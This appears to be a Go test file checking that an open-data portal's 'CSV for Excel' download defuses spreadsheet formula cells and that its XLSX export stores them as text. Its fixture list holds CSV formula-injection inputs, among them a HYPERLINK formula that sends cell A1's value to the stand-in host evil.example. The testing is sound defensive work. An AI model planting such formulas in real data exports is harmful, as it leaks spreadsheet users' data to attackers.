package devapi_test

import (
	"archive/zip"
	"bytes"
	"context"
	"encoding/csv"
	"io"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"github.com/hlj-opendata/portal/server/apptest"
	"github.com/hlj-opendata/portal/server/catalog"
)

// A resource whose cells start with every formula trigger goes out
// unchanged as the original and as format=csv, and defused (a leading ')
// in the "CSV for Excel" variant, except plain negative numbers. The XLSX
// conversion writes such cells as text, never as formulas.
func TestCSVForExcelDefusesFormulas(t *testing.T) {
	p := apptest.New(t, apptest.Options{Seed: "small"})
	var res catalog.Resource
	if err := p.DB.First(&res, "id = ?", uncondRes).Error; err != nil {
		t.Fatal(err)
	}
	// A string and a numeric column of the dataset, by their data items.
	var items []catalog.DataItem
	p.DB.Where("dataset_id = ?", res.DatasetID).Order("position").Find(&items)
	strCol, numCol := "", ""
	for _, it := range items {
		switch {
		case it.Type == "string" && strCol == "":
			strCol = it.Name
		case (it.Type == "number" || it.Type == "integer") && numCol == "":
			numCol = it.Name
		}
	}
	if strCol == "" || numCol == "" {
		t.Fatalf("no string and numeric columns among %+v", items)
	}
	orig := p.Get(t, "/api/v1/resources/"+uncondRes+"/download")
	recs, err := csv.NewReader(bytes.NewReader(orig.Body)).ReadAll()
	if orig.Status != 200 || err != nil || len(recs) < 2 {
		t.Fatalf("original: %d %v", orig.Status, err)
	}
	head := recs[0]
	si, ni := colIndex(head, strCol), colIndex(head, numCol)

	// Each row puts one value in the string column; numeric cells get a
	// negative number (data, not a formula).
	type cell struct{ in, excel string }
	cells := []cell{
		{"=1+1", "'=1+1"},
		{"=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")", "'=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")"},
		{"+1+2", "'+1+2"},
		{"-2+3", "'-2+3"},
		{"@SUM(A1:A2)", "'@SUM(A1:A2)"},
		{"\t=1+1", "'\t=1+1"},
		{"\r=1+1", "'\r=1+1"},
		{"-12.5", "-12.5"}, // a plain number in a text column: still a number to Excel
		{"-", "'-"},
		{"+5", "'+5"},
		{"道里区=1", "道里区=1"},
		{"a-b", "a-b"},
		{"", ""},
	}
	var buf bytes.Buffer
	w := csv.NewWriter(&buf)
	w.Write(head)
	for _, c := range cells {
		row := append([]string(nil), recs[1]...)
		row[si], row[ni] = c.in, "-12.5"
		w.Write(row)
	}
	w.Flush()
	stored := buf.Bytes()
	ctx := context.Background()
	st, err := p.Blobs.Put(ctx, bytes.NewReader(stored), 0)
	if err != nil {
		t.Fatal(err)
	}
	if err := p.DB.Model(&catalog.Resource{}).Where("id = ?", uncondRes).
		Updates(map[string]any{"storage_key": st.Key, "sha256": st.SHA256, "size": st.Size, "rows": len(cells)}).Error; err != nil {
		t.Fatal(err)
	}
	base := "/api/v1/resources/" + uncondRes + "/download"

	// The original and format=csv: byte for byte what was published.
	for _, q := range []string{"", "?format=csv"} {
		r := p.Get(t, base+q)
		if r.Status != 200 || !bytes.Equal(r.Body, stored) {
			t.Errorf("download%s: %d, body changed:\n%q\nwant\n%q", q, r.Status, r.Body, stored)
		}
	}

	// CSV for Excel: BOM, then the defused cells.
	r := p.Get(t, base+"?format=csv&bom=true")
	if r.Status != 200 || !bytes.HasPrefix(r.Body, []byte("\xEF\xBB\xBF")) {
		t.Fatalf("bom=true: %d %q", r.Status, r.Body)
	}
	got, err := csv.NewReader(bytes.NewReader(r.Body[3:])).ReadAll()
	if err != nil || len(got) != len(cells)+1 {
		t.Fatalf("bom=true: %d records, %v\n%q", len(got), err, r.Body)
	}
	gsi, gni := colIndex(got[0], strCol), colIndex(got[0], numCol)
	for i, c := range cells {
		row := got[i+1]
		if row[gsi] != c.excel {
			t.Errorf("bom=true: %q became %q, want %q", c.in, row[gsi], c.excel)
		}
		if row[gni] != "-12.5" {
			t.Errorf("bom=true: numeric -12.5 became %q", row[gni])
		}
	}
	// Its validator is not the plain conversion's or the original's.
	if etag := r.Header.Get("ETag"); !strings.HasSuffix(etag, `-bom"`) || etag == p.Get(t, base+"?format=csv").Header.Get("ETag") {
		t.Errorf("bom=true ETag %q", etag)
	}

	// XLSX: formula-looking text is an inline string, never a formula.
	x := p.Get(t, base+"?format=xlsx")
	if x.Status != 200 {
		t.Fatalf("xlsx: %d %s", x.Status, x.Body)
	}
	if xml := xlsxXML(t, x.Body); strings.Contains(xml, "<f>") || strings.Contains(xml, "<f ") {
		t.Errorf("the workbook holds a formula element")
	}
	f, err := excelize.OpenReader(bytes.NewReader(x.Body))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	rows, err := f.GetRows(f.GetSheetName(0), excelize.Options{RawCellValue: true})
	if err != nil || len(rows) != len(cells)+1 {
		t.Fatalf("xlsx rows %d: %v", len(rows), err)
	}
	xsi := colIndex(rows[0], strCol)
	for i, c := range cells {
		if c.in == "" {
			continue
		}
		ref, _ := excelize.CoordinatesToCellName(xsi+1, i+2)
		formula, err := f.GetCellFormula(f.GetSheetName(0), ref)
		val, _ := f.GetCellValue(f.GetSheetName(0), ref)
		typ, _ := f.GetCellType(f.GetSheetName(0), ref)
		if err != nil || formula != "" || val != c.in || typ != excelize.CellTypeInlineString {
			t.Errorf("xlsx %s: value %q type %v formula %q (%v), want the text %q", ref, val, typ, formula, err, c.in)
		}
	}
}

func colIndex(list []string, name string) int {
	for i, v := range list {
		if v == name {
			return i
		}
	}
	panic("no column " + name)
}

// xlsxXML returns every part of a workbook, concatenated.
func xlsxXML(t *testing.T, body []byte) string {
	t.Helper()
	zr, err := zip.NewReader(bytes.NewReader(body), int64(len(body)))
	if err != nil {
		t.Fatal(err)
	}
	var all strings.Builder
	for _, f := range zr.File {
		rc, err := f.Open()
		if err != nil {
			t.Fatal(err)
		}
		b, _ := io.ReadAll(rc)
		rc.Close()
		all.Write(b)
	}
	return all.String()
}
